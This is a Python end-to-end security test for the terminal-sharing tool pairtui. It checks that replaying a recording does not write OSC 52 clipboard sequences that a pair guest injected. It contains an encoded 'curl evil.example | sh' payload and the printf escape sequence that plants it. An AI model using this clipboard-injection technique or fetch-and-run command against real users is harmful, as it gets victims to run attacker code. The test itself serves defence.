"""Attack: what a pane printed for the host's clipboard is written again by `pairtui play`.

Under ``set-clipboard on`` (a common host setting: editors copy over OSC 52) tmux
forwards a pane's OSC 52 to its clients, the recorder's read-only client included (its
``TERM`` is ``xterm-256color``, which tmux's default ``terminal-features`` gives
``clipboard``); under ``allow-passthrough on`` it forwards any bytes wrapped in
``DCS tmux;``. The recorder keeps them in the cast, and ``pairtui play`` writes the
cast's output raw to the host's terminal: a pair guest (or any output in the shared
pane) sets the clipboard of whoever plays the recording, days later, in another
terminal, where a paste then runs what the guest chose. The dashboard's player (pyte)
and the HTML export (asciinema-player) do not obey these; `pairtui play` does.

Real OpenSSH, real tmux, real `pairtui serve` and `pairtui play` in a PTY.
"""

from __future__ import annotations

import contextlib
import os
import re
import shlex
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pexpect
import pytest
from support import Server, SshGuest, TmuxHost, add_guest, pairtui

from pairtui import paths
from pairtui.recording import cast

pytestmark = pytest.mark.e2e

Connect = Callable[..., SshGuest]
PAYLOAD = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo="  # base64 of "curl evil.example | sh\n"


def play_raw(path: Path, seconds: float) -> bytes:
    """Every byte `pairtui play` writes to its terminal in ``seconds``, then q."""
    cmd = shlex.join([sys.executable, "-m", "pairtui", "play", str(path), "--speed", "20"])
    child = pexpect.spawn("sh", ["-c", cmd], dimensions=(60, 200), env=dict(os.environ))
    out = b""
    try:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            with contextlib.suppress(pexpect.TIMEOUT):
                out += child.read_nonblocking(65536, timeout=0.1)
        child.send("q")
        with contextlib.suppress(pexpect.TIMEOUT, pexpect.EOF):
            while True:
                out += child.read_nonblocking(65536, timeout=1)
    except pexpect.EOF:
        pass
    finally:
        child.close(force=True)
    return out


def test_playing_a_recording_never_writes_the_hosts_clipboard(
    shared: tuple[TmuxHost, Server], keys: Callable[[str], Path], guests: Connect
) -> None:
    host, srv = shared
    host.run("set-option", "-g", "set-clipboard", "on")
    add_guest("mallory", keys("mallory"), "--mode", "pair")
    g = guests(srv.port, keys("mallory"))
    g.wait_for("MARK-21")
    res = pairtui("record", "main")
    assert res.returncode == 0, res.stderr
    [path] = sorted(paths.recordings_dir().glob("main-*.cast"))
    g.send(f"printf '\\033]52;c;{PAYLOAD}\\007'; echo SENT-$((6*7))\r")
    g.wait_for("SENT-42")
    time.sleep(1.5)  # the recorder flushes within a second
    assert pairtui("record", "main", "--stop").returncode == 0
    _, events = cast.read(path)
    recorded = "".join(e.data for e in events if e.code == "o")
    assert re.search(rf"\x1b\]52;[a-z]*;{PAYLOAD}", recorded)  # tmux gave it the recorder
    out = play_raw(path, 4)
    assert b"SENT-42" in out  # it played
    written = re.findall(rb"\x1b\]52;[a-z]*;[^\x07\x1b]*", out)
    assert written == [], f"play wrote the host's clipboard: {written}"
